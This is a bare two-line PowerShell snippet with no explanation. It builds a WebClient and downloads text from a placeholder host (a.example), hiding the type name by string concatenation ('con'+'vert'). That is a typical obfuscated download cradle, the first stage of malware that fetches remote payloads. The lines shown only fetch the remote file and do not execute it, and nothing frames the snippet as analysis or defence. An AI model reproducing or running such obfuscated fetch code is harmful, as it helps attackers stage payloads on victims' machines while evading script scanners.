$wc = New-Object System.Net.WebClient
$wc.DownloadString(([type]('con'+'vert'))::ToString('http://a.example/p/x.txt'))
